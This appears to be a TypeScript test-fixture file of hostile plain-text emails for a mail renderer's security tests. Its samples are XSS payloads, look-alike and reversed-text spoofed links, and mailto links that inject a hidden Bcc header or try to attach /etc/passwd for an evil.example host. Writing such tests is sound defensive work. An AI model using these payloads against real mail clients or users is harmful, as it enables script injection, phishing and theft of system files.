// R4, R14, R15 in plain text: letters that must stay letters, links that must be what they say.

import { mail, plainType } from './mail.ts';
import type { HostileMail, Threat } from './message.ts';

const plain = (threat: Threat, title: string, body: string, readable = 'marker', type = plainType): HostileMail =>
  mail(threat, title, readable, type, body);

export const plainMail: readonly HostileMail[] = [
  plain('R4', 'plain text of tags', '<img src=x onerror=RUN><script>RUN</script> marker', '<script>'),
  plain('R4', 'a link that ends its own attribute', 'see https://example.org/"onmouseover="RUN"x=" marker'),
  plain('R4', 'a link with an angle bracket', 'https://example.org/<svg/onload=RUN> marker', '<svg/onload='),
  plain('R4', 'schemes that are not links', 'javascript:RUN data:text/html,<b>x vbscript:RUN marker'),
  plain(
    'R4',
    'flowed text that joins a tag',
    '<img src=x \nonerror=RUN> marker',
    '<img src=x onerror=',
    `${plainType}; format=flowed`,
  ),
  plain('R4', 'a quote of tags', '> <iframe srcdoc="<script>RUN</script>">\n>> <b onclick=RUN>\nmarker', '<iframe'),
  plain(
    'R4',
    'enriched text that is HTML',
    '<bold>marker</bold><param><script>RUN</script></param>',
    '',
    'Content-Type: text/enriched',
  ),
  plain('R4', 'a line of ten thousand beginnings of links', `${'https://'.repeat(10_000)} marker`),
  plain('R14', 'a host of two scripts in plain text', 'https://b\u0430nk.example/ marker', 'xn--bnk-6cd.example'),
  plain('R14', 'a link with a user name in plain text', 'https://bank.example@evil.example/ marker', 'evil.example'),
  plain('R14', 'a link turned around in plain text', '\u202ehttps://evil.example/elpmaxe.knab\u202c marker'),
  plain('R14', 'an invisible letter in a link', 'https://ban\u200bk.example/ marker'),
  plain('R15', 'a mail link with hidden copies', 'mailto:a@x.org?bcc=v@evil.example&attach=/etc/passwd marker'),
  plain('R15', 'a mail link with line ends', 'mailto:a@x.org?subject=x%0d%0aBcc:%20v@evil.example marker'),
];
